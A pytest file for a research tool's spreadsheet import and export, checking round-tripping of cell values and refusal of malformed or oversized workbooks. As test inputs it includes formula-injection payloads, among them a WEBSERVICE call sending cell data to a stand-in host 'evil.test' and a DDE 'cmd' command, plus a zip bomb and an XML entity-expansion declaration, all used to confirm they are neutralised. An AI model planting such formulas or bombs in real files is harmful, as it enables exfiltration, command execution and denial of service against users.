"""A workbook and a sheet of the desk hold the same; what is too large, broken or reaches out is kept back."""

import io
import re
import sys
import zipfile
from datetime import date, datetime, time, timedelta
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.formula import ArrayFormula

from researchdesk.state.desk.grids import canonical, read_grid, write_grid
from researchdesk.state.errors import Refusal, UsageError
from researchdesk.tools.desk.workbook import ImportedSheet, read_workbook, write_workbook


def saved(workbook: Any) -> bytes:
    """The bytes of a workbook as a spreadsheet program would save it."""
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def there_and_back(text: str) -> str:
    """A sheet after it was exported and imported."""
    sheets = read_workbook(write_workbook({"a": text}).data, name="a.xlsx")
    return sheets[0].text


def refusal(data: bytes) -> tuple[str, str]:
    """What is said about a file that is not imported."""
    with pytest.raises(Refusal) as refused:
        read_workbook(data, name="a.xlsx")
    return refused.value.code, refused.value.text


def changed(data: bytes, part: str, content: bytes) -> bytes:
    """A workbook with one of its parts replaced."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))
    return stream.getvalue()


def test_the_cells_of_a_workbook_become_raw_texts() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    cells: dict[str, Any] = {
        "A1": "name", "B1": 3, "C1": 2.5, "D1": True, "E1": "=B1*2", "F1": "007", "G1": "名前", "H1": "#DIV/0!",
        "A2": date(2024, 1, 31), "B2": datetime(2024, 1, 31, 13, 45, 59), "C2": time(13, 5), "D2": timedelta(hours=30),
        "E2": ArrayFormula("E2:E3", "=B1:B2*2"), "F2": 1e20, "G2": 0.1, "H2": "two\nlines, \"quoted\"",
        "B4": -0.5,
    }  # fmt: skip
    for ref, value in cells.items():
        sheet[ref] = value
    sheet["A4"].value, sheet["A4"].data_type = "=not a formula", "s"
    sheet["C4"].value, sheet["C4"].number_format = 1.1, "0.00"
    assert read_grid(read_workbook(saved(workbook), name="Plan.xlsx")[0].text) == [
        ["name", "3", "2.5", "TRUE", "=B1*2", "007", "名前", "#DIV/0!"],
        ["2024-01-31", "2024-01-31 13:45:59", "13:05:00", "30:00:00", "=B1:B2*2", "1e+20", "0.1",
         'two\nlines, "quoted"'],
        [""] * 8,
        ["'=not a formula", "-0.5", "1.10", "", "", "", "", ""],
    ]  # fmt: skip


def test_each_sheet_that_holds_something_becomes_a_file() -> None:
    workbook = openpyxl.Workbook()
    workbook.active.title = "Costs."
    workbook.active["A1"] = 1
    workbook.create_sheet("Empty")
    hidden = workbook.create_sheet("Notes")
    hidden["B2"], hidden.sheet_state = "x", "hidden"
    assert read_workbook(saved(workbook), name="Budget 2024.xlsx") == (
        ImportedSheet(title="Costs.", path="Budget 2024 - Costs..csv", text="1\n", hidden=False),
        ImportedSheet(title="Notes", path="Budget 2024 - Notes.csv", text=",\n,x\n", hidden=True),
    )
    one = write_workbook({"a": "x\n"}).data
    assert [sheet.path for sheet in read_workbook(one, name="C:\\tmp\\Plan.xlsx")] == ["Plan.csv"]
    assert [sheet.path for sheet in read_workbook(one, name="\u202eevil.xlsx")] == ["workbook - sheet 1.csv"]


def test_a_sheet_becomes_typed_cells_of_a_workbook() -> None:
    exported = write_workbook(
        {"plans/Überblick.csv": "n,3,-2.50,2024-01-31,TRUE,=B1*2,007,+49 30,'=x,1e-7\n"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(exported.data))["Überblick"]
    assert [(cell.value, cell.data_type) for cell in sheet[1]] == [
        ("n", "s"), (3, "n"), (-2.5, "n"), (datetime(2024, 1, 31), "d"), (True, "b"), ("=B1*2", "f"), ("007", "s"),
        ("+49 30", "s"), ("=x", "s"), (1e-7, "n"),
    ]  # fmt: skip
    assert exported.held_back == ()


RAW = [
    "3", "-3", "0", "-0", "007", "1.10", "0.1", "123456789012345", "1234567890123456", "0.123456789012", "TRUE", "true",
    "2024-01-31", "2024-02-31", "1900-01-01", "2024-01-31 00:00:00", "2024-01-31 13:45:59", "13:05", "50%", "1,234",
    "=", "'=", "'=x", "''=x", "'x", "=A1", "=SUM(A1:B2)", "+1", "-x", "@x", "#DIV/0!", "a\nb", "a\r\nb", "\t", " a ",
    "\x00", "\x0b", "_x0041_", "_x005F_", "\uffff", "名前", "👩‍👩‍👧", "<b>&amp;", "'=\x01", "-", "1.", ".5", "--1",
    "e", "999999999999999.9",
]  # fmt: skip


def test_every_raw_text_comes_back_from_a_workbook_as_it_was() -> None:
    text = write_grid([[str(number), raw] for number, raw in enumerate(RAW)])
    assert read_grid(there_and_back(text)) == read_grid(text)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(max_size=6) | st.sampled_from(RAW) | st.text("'=_x0041\r\n ,-.59", max_size=8), max_size=4
        ),
        max_size=5,
    )
)
def test_every_sheet_comes_back_from_a_workbook_as_it_was(rows: list[list[str]]) -> None:
    text = write_grid([["head"], *rows])
    exponent = re.compile(r"-?\d(\.\d+)?[eE]")
    if (
        not any(exponent.match(cell) for row in rows for cell in row)
        and not write_workbook({"a": text}).held_back
    ):
        assert there_and_back(text) == canonical(text)


def test_a_formula_that_was_held_back_comes_back_as_a_text() -> None:
    assert there_and_back('a,"=HYPERLINK(""x"")",=\x01\n') == """a,"'=HYPERLINK(""x"")",'=\x01\n"""


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://evil.test/?"&A1)', '=hyperlink("x")', "=cmd|' /C calc'!A0", "=[book.xlsx]Sheet1!A1",
     '=A1&"http://x"', "=IMPORTXML(A1,B1)", "='\\\\host\\share'!A1", '=1+RTD("a",,"b")'],
)  # fmt: skip
def test_a_formula_that_reaches_out_is_written_as_text_and_named(formula: str) -> None:
    exported = write_workbook({"s": write_grid([["a", formula]])})
    cell = openpyxl.load_workbook(io.BytesIO(exported.data))["s"]["B1"]
    assert (cell.value, cell.data_type) == (formula, "s")
    assert exported.held_back == ("s!B1",)


def test_titles_fit_a_workbook_and_differ() -> None:
    names = ["a/plan.csv", "b/Plan.csv", "x" * 40 + ".csv", "x" * 50 + ".csv", "a[1]:*?.csv", "'"]
    assert openpyxl.load_workbook(
        io.BytesIO(write_workbook(dict.fromkeys(names, "1\n")).data)
    ).sheetnames == ["plan", "Plan 2", "x" * 31, "x" * 29 + " 2", "a 1", "Sheet"]


def test_what_is_no_workbook_is_refused() -> None:
    message = '"a.xlsx" is no .xlsx or .xlsm file, or is encrypted. Save it as .xlsx.'
    good = write_workbook({"a": "x\n"}).data
    assert refusal(b"") == ("bad_workbook", message)
    assert refusal(b"a,b\n1,2\n") == ("bad_workbook", message)
    assert refusal(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 512) == ("bad_workbook", message)
    assert refusal(good[: len(good) // 2]) == ("bad_workbook", message)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as other:
        other.writestr("a.txt", "x")
    assert refusal(stream.getvalue()) == (
        "bad_workbook",
        '"a.xlsx" cannot be read (KeyError). Save it anew as .xlsx.',
    )
    assert refusal(changed(good, "xl/worksheets/sheet1.xml", b"<broken"))[0] == "bad_workbook"
    assert refusal(saved(openpyxl.Workbook())) == (
        "bad_workbook",
        '"a.xlsx" holds no cells. Choose a workbook with a table.',
    )


def test_a_bomb_is_refused_before_it_goes_off() -> None:
    good = write_workbook({"a": "x\n"}).data
    bomb = changed(good, "xl/worksheets/sheet1.xml", b" " * 100_000_001)
    assert len(bomb) < 200_000
    assert refusal(bomb) == (
        "too_large",
        '"a.xlsx" is over 100,000,000 bytes unpacked; the limit is that.',
    )
    assert refusal(b"PK" * 10_000_001) == (
        "too_large",
        '"a.xlsx" is 20,000,002 bytes; the limit is 20,000,000.',
    )
    entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><worksheet/>'
    for declared in (entities, entities.decode().encode("utf-16")):
        assert refusal(changed(good, "xl/worksheets/sheet1.xml", declared)) == (
            "bad_workbook",
            '"a.xlsx" declares a document type, which no workbook does. Save it anew.',
        )


def sheet_xml(rows: str, dimension: str) -> bytes:
    """A worksheet as it stands in a workbook."""
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def test_a_sheet_that_only_claims_to_be_large_is_read_and_one_that_is_is_refused() -> None:
    good = write_workbook({"a": "x\n"}).data
    part = "xl/worksheets/sheet1.xml"
    claimed = sheet_xml('<row r="2"><c r="B2"><v>5</v></c></row>', "A1:XFD1048576")
    assert [sheet.text for sheet in read_workbook(changed(good, part, claimed), name="a.xlsx")] == [",\n,5\n"]
    far = sheet_xml(
        '<row r="1"><c r="A1"><v>5</v></c></row><row r="900000"><c r="B900000"><v>5</v></c></row>', "A1"
    )
    assert refusal(changed(good, part, far)) == (
        "too_large",
        "A sheet of 900,000 rows and 2 columns is 1,800,000 cells; the limit is 500,000.",
    )


def test_a_cell_or_sheet_that_no_workbook_takes_is_refused() -> None:
    with pytest.raises(Refusal, match=r"Cell B1 is 32,768 characters; the limit is 32,767\."):
        write_workbook({"a": write_grid([["x", "y" * 32_768]])})
    with pytest.raises(Refusal, match=r"Cell A1 is 70,000 characters"):
        write_workbook({"a": write_grid([["\x01" * 10_000]])})
    with pytest.raises(Refusal, match=r"The sheet a is 16,385 columns; the limit is 16,384\."):
        write_workbook({"a": "," * 16_384 + "x\n"})
    assert there_and_back(write_grid([["y" * 32_767]])) == write_grid([["y" * 32_767]])
    with pytest.raises(UsageError, match="at least one sheet"):
        write_workbook({})


def test_without_the_library_the_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    for attempt in (lambda: read_workbook(b"", name="a.xlsx"), lambda: write_workbook({"a": "x\n"})):
        with pytest.raises(UsageError, match=r"pip install 'researchdesk\[sheets\]'"):
            attempt()
